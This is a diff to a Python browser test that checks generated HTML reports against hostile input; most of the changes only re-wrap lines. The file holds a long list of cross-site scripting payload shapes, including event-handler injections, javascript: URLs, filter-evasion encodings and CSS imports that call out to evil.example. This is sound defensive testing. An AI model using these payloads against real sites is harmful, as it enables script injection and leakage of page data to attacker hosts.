@@ -1,5 +1,4 @@
-# ruff: noqa: E501 - what is injected stays in one piece
-"""Reports in a real browser: nothing runs, nothing loads, nothing overflows, every chart is drawn."""
+"""Reports in a real browser: nothing runs, loads or overflows, and every chart is drawn."""
 
 import json
 import shutil
@@ -27,25 +26,30 @@ SHAPES = (
     "<object data=javascript:{}>", "<embed src=javascript:{}>", "<marquee onstart={}>",
     "<math><mtext></mtext><script>{}</script></math>", '" autofocus onfocus="{}" x="',
     "' onmouseover='{}' x='", "`onload={}`", "&lt;script&gt;{}&lt;/script&gt;",
-    "&#60;script&#62;{}&#60;/script&#62;", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "&#60;script&#62;{}&#60;/script&#62;",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
     "<base href=https://evil.example/><script src=x>{}</script>",
     "<link rel=stylesheet href=https://evil.example/x.css onload={}>",
     "<style>@import 'https://evil.example/x.css';/*{}*/</style>",
     "<style>*{{background:url(https://evil.example/?{})}}</style>",
     "}}body{{background:url(https://evil.example/?{})}}", "<textarea autofocus onfocus={}>",
-    "<select autofocus onfocus={}>", "<audio src=x onerror={}>", "<isindex type=image src=1 onerror={}>",
+    "<select autofocus onfocus={}>", "<audio src=x onerror={}>",
+    "<isindex type=image src=1 onerror={}>",
     "<xss style=animation-name:x onanimationstart={}>", "<template><script>{}</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<plaintext>{}", "<!--{}", "<![CDATA[{}",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<plaintext>{}", "<!--{}",
+    "<![CDATA[{}",
     "<scr\x00ipt>{}</scr\x00ipt>", "\u202e<script>{}</script>", "＜script＞{}＜/script＞",
     "<SCRIPT/XSS>{}</SCRIPT>", "<<script>{}//<</script>", "{{{{{}}}}}", "{{% raw %}}{}",
-    "${{{}}}", "<use href='data:image/svg+xml,<svg onload={}>'>", "<set onbegin={} attributeName=x>",
+    "${{{}}}", "<use href='data:image/svg+xml,<svg onload={}>'>",
+    "<set onbegin={} attributeName=x>",
 )  # fmt: skip
 INJECTIONS = [
     shape.replace("{}", call).replace("{{", "{").replace("}}", "}")
     for shape in SHAPES
     for call in CALLS
 ]
-STRANGE = ["W" * 10_000, "\u202e\u2066" * 50 + "abc", "نص طويل " * 60, "👩‍👩‍👧‍👦" * 99, "\x00\x1b[2J\r\n\t" * 30,
+STRANGE = ["W" * 10_000, "\u202e\u2066" * 50 + "abc", "نص طويل " * 60, "👩‍👩‍👧‍👦" * 99,
+           "\x00\x1b[2J\r\n\t" * 30,
            "a\u0300" * 500, "https://evil.example/" + "x/" * 300]  # fmt: skip
 
 
@@ -151,7 +155,7 @@ def test_hostile_text_runs_nothing_loads_nothing_and_fits(texts, redact, browser
 
 
 def test_each_injection_alone_at_the_head_of_a_page(browser, tmp_path):
-    for number, text in enumerate(INJECTIONS[:: 4 * len(CALLS) - 1]):
+    for number, text in enumerate(INJECTIONS[::29]):
         bulk = bulk_of([text] * 6)
         path = write_report(bulk, tmp_path / f"{number}.html", redact=False)
         assert look(browser, path, 760)[2] <= 0
